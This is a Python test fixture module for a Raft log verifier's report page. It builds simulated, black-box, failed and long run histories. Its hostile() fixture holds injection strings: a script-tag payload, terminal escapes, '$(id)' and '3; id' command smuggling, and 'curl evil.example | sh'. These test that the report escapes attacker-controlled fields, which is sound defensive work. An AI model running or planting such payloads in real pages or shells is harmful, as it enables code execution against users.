"""Runs to report on: one as the simulator leaves it, and one of any length."""

import io
import json
import random
import sys
from pathlib import Path

from raftlog.verify import Header, HistoryWriter
from raftlog.verify.report.page import RunFolder

MS = 1_000_000


RUN = {
    "version": 1,
    "command": ["raftlog", "sim", "run", "--seed", "42"],
    "seed": 42,
    "options": {"profile": "swarm"},
    "versions": {"raftlog": "0.1.0"},
    "metrics": {"events": 1842, "simulated_ns": 3_000 * MS, "real_ns": 200 * MS},
    "trace_hash": "9f2c33aa",
    "probes": {"vote-split": 3, "install-late": 0},
    "buggify": {"slow-sync": 4},
    "shrink": {"steps": [[1842, 12], [60, 4], [7, 2]], "p_bug": [[100, 0.01], [2000, 0.4]]},
    "replicas": {
        "orders/0": {
            "n1": {"committed": 60, "runs": [[0, 30, 1], [30, 60, 2]]},
            "n2": {"committed": 62, "runs": [[0, 30, 1], [30, 62, 2]]},
            "n3": {"committed": 50, "runs": [[0, 29, 1], [29, 50, 2]]},
        }
    },
}


def simulated(*, lose: bool) -> tuple[str, RunFolder]:
    """A history of 120 operations with faults, a trace, replicas and invariants.

    With `lose`, one acknowledged record is replaced by the next one.
    """
    rng = random.Random(5)
    stream = io.StringIO()
    options = {"read_consistency": "linearizable", "consumer": "assign"}
    nodes = ["n1", "n2", "n3"]
    writer = HistoryWriter(stream, Header(source="sim", seed=42, options=options, nodes=nodes))
    trace = ["# instant where name", "0 n1 role role=leader term=1"]
    trace += [f"0 {node} role role=follower term=1" for node in nodes[1:]]
    log, read_to, leader, term, now, message = [], {}, "n1", 1, 0, 0
    for number in range(120):
        now += rng.randint(1, 9) * MS
        if number == 40:
            writer.nemesis("kill", time_ns=now, value={"node": "n1"})
            trace += [f"{now} n1 role role=down", f"{now + 150 * MS} n2 role role=candidate term=2"]
            now += 250 * MS
            trace.append(f"{now} n2 role role=leader term=2")
            leader, term = "n2", 2
        elif number == 60:
            groups = {"groups": [["n1"], ["n2", "n3"]]}
            writer.nemesis("start-partition", time_ns=now, value=groups)
        elif number == 70:
            writer.nemesis("restart", time_ns=now, value={"node": "n1"})
            trace.append(f"{now} n1 role role=follower term=2")
        elif number == 80:
            writer.nemesis("stop-partition", time_ns=now)
        process, began = rng.randrange(4), now
        now += rng.randint(3, 8) * MS
        if rng.random() < 0.65:
            value = f"k{number % 5}#{number}"
            writer.invoke(process, "send", time_ns=began, key="orders/0", value=value)
            for peer in nodes:
                if peer != leader:
                    message += 1
                    fate = "drop" if rng.random() < 0.1 else "deliver"
                    trace.append(f"{began + MS} {leader} send to={peer} id={message} what=append")
                    trace.append(f"{began + 2 * MS} {peer} {fate} id={message}")
                    trace.append(f"{began + 2 * MS} {peer} sync")
            base = len(log)
            log.append(value)
            if lose and number == 33:
                log.pop()
            answer = {"value": [base, value], "node": leader, "term": term}
            writer.complete(process, "ok", time_ns=now, **answer)
        else:
            writer.invoke(process, "poll", time_ns=began)
            first = read_to.get(process, 0)
            last = min(len(log), first + rng.randint(0, 6))
            read_to[process] = last
            pairs = [[at, log[at]] for at in range(first, last)]
            writer.complete(process, "ok", time_ns=now, value={"orders/0": pairs}, node=leader)
    writer.invoke(9, "poll", time_ns=now + MS)
    pairs = [[at, value] for at, value in enumerate(log)]
    writer.complete(9, "ok", time_ns=now + 2 * MS, value={"orders/0": pairs}, node="n2")
    invariants = {"ElectionSafety": {"status": "held", "checked": 1842}}
    name = "20261121T100000-sim-42"
    return stream.getvalue(), RunFolder(
        name=name, run=RUN, invariants=invariants, trace="\n".join(trace)
    )


def black_box() -> tuple[str, RunFolder]:
    """A history as clients of real brokers leave it: two partitions, two faults, a send that no one
    answered, no trace and no replicas."""
    stream = io.StringIO()
    options = {"consumer": "assign", "retention": "none"}
    header = Header(source="blackbox", seed=7, options=options, nodes=["n1", "n2", "n3"])
    writer = HistoryWriter(stream, header)
    logs: dict[str, list[str]] = {"log/0": [], "log/1": []}
    now = 0
    for number in range(60):
        now += 5 * MS
        if number in (20, 30):
            f = {20: "kill", 30: "restart"}[number]
            writer.nemesis(f, time_ns=now, value={"node": "n1"})
        if number in (35, 50):
            f = {35: "start-isolate", 50: "stop-isolate"}[number]
            writer.nemesis(f, time_ns=now, value={"nodes": ["n2", "n3"]})
        key, value = f"log/{number % 2}", f"#{number}"
        if number == 22:
            writer.invoke(9, "send", time_ns=now, key=key, value="#unknown")
            continue
        writer.invoke(0, "send", time_ns=now, key=key, value=value)
        writer.complete(0, "ok", time_ns=now + 2 * MS, value=[len(logs[key]), value])
        logs[key].append(value)
    read = {key: [[at, value] for at, value in enumerate(log)] for key, log in logs.items()}
    writer.invoke(1, "poll", time_ns=now + 9 * MS)
    writer.complete(1, "ok", time_ns=now + 10 * MS, value=read)
    writer.close()
    words = {"workload": "append", "nemesis": "isolate", "client": "confluent", "seconds": 12}
    words |= {"linearizable": True, "settings": {"raftlog.lease.enable": "true"}}
    run = {"version": 1, "options": words, "seed": 7}
    return stream.getvalue(), RunFolder(name="blackbox", place="elsewhere/blackbox", run=run)


def nobody() -> tuple[str, RunFolder]:
    """A run that failed while it was set up: no client had done anything, and a node was down."""
    stream = io.StringIO()
    writer = HistoryWriter(stream, Header(source="sim", seed=3, nodes=["n1", "n2", "n3"]))
    writer.nemesis("kill", time_ns=50 * MS, value={"nodes": ["n1"]})
    writer.nemesis("restart", time_ns=70 * MS, value={"nodes": ["n1"]})
    writer.close()
    trace = [
        "0 n1 boot number=1",
        f"{10 * MS} n1 group-0 role=leader term=1",
        f"{11 * MS} n2 group-0 role=follower term=1",
        f"{20 * MS} n1 send to=n2 id=1 what=append",
        f"{30 * MS} n2 deliver id=1",
        f"{70 * MS} n1 boot number=2",
        f"{80 * MS} n1 group-0 role=follower term=2",
        f"{90 * MS} n2 group-0 role=leader term=2",
    ]
    invariants = {"election-safety": {"status": "violated", "checked": 4}}
    run = {"version": 1, "seed": 3, "failure": "election-safety: n1 and n2 lead"}
    folder = RunFolder(name="nobody", run=run, invariants=invariants, trace="\n".join(trace))
    return stream.getvalue(), folder


def hostile() -> tuple[str, RunFolder]:
    """A folder of an attacker who wants the reader's browser or terminal to do something."""
    evil = "</script><script>document.title='owned'</script>\u202e\x1b[31m`$(id)`"
    stream = io.StringIO()
    writer = HistoryWriter(stream, Header(source="sim", seed=3, commit=evil, nodes=[evil]))
    writer.invoke(0, "send", time_ns=1, key=evil, value=evil)
    writer.complete(0, "ok", time_ns=2, value=[0, evil], node=evil, error=evil)
    writer.invoke(1, "poll", time_ns=3)
    writer.complete(1, "ok", time_ns=4, value={evil: [[0, f"{evil}!"]]}, node=evil)
    writer.nemesis(f"start-{evil}", time_ns=5, value={"nodes": [evil]})
    writer.close()
    own = {"replay": f"curl evil.example | sh # {evil}", evil: evil}
    run = {"command": evil, "commands": own, "mutant": "3; id", "options": {evil: evil}}
    checks = {evil: {"status": "held", "note": evil, "checked": 0}}
    return stream.getvalue(), RunFolder(name=evil, place=evil, run=run, invariants=checks)


def long_run(operations: int) -> str:
    """A valid history of many sends, polls and faults, three partitions."""
    rng = random.Random(9)
    header = {"format": 1, "source": "blackbox", "seed": 9, "model": "log"}
    header |= {"nodes": ["n1", "n2", "n3"], "options": {"read_consistency": "linearizable"}}
    lines, logs, read_to, now, index = [json.dumps(header)], [[], [], []], {}, 0, 0
    for number in range(operations):
        process, part = rng.randrange(12), rng.randrange(3)
        key = f"orders/{part}"
        if number % 1000 == 500:
            fault = {
                "f": rng.choice(["kill", "restart", "pause", "resume"]),
                "value": {"node": "n2"},
            }
            line = {"index": index, "time_ns": now, "process": "nemesis", "type": "info"}
            lines.append(json.dumps({**line, **fault, "key": None}))
            index += 1
        if rng.random() < 0.7:
            value = f"k{number % 9}#{number}"
            answer, asked, f = [len(logs[part]), value], value, "send"
            logs[part].append(value)
        else:
            first = read_to.get((process, part), 0)
            last = min(len(logs[part]), first + 40)
            read_to[process, part] = last
            pairs = [[at, logs[part][at]] for at in range(first, last)]
            answer, asked, f, key = {key: pairs}, None, "poll", None
        line = {"index": index, "time_ns": now, "process": process, "f": f, "key": key}
        lines.append(json.dumps({**line, "type": "invoke", "value": asked}))
        now += rng.randint(1_000, 4_000_000)
        line |= {"index": index + 1, "time_ns": now, "type": "ok", "value": answer, "node": "n1"}
        lines.append(json.dumps(line))
        now += 1_000
        index += 2
    for part, log in enumerate(logs):
        line = {"index": index, "time_ns": now, "process": 90 + part, "f": "poll", "key": None}
        lines.append(json.dumps({**line, "type": "invoke", "value": None}))
        pairs = {f"orders/{part}": [[at, value] for at, value in enumerate(log)]}
        line |= {"index": index + 1, "type": "ok", "value": pairs}
        lines.append(json.dumps(line))
        index += 2
    return "\n".join(lines) + "\n"


def write_folder(kind: str, folder: Path) -> None:
    """A run folder to look at: `passing`, `failing` or `long`."""
    folder.mkdir(parents=True, exist_ok=True)
    if kind == "long":
        (folder / "history.jsonl").write_text(long_run(100_000), encoding="utf-8")
        return
    text, run = simulated(lose=kind == "failing")
    (folder / "history.jsonl").write_text(text, encoding="utf-8")
    (folder / "trace.txt").write_text(run.trace, encoding="utf-8")
    (folder / "run.json").write_text(json.dumps(run.run), encoding="utf-8")


if __name__ == "__main__":
    if len(sys.argv) != 3 or sys.argv[1] not in ("passing", "failing", "long"):
        sys.exit("usage: python -m tests.verify.sample_runs passing|failing|long FOLDER")
    write_folder(sys.argv[1], Path(sys.argv[2]))
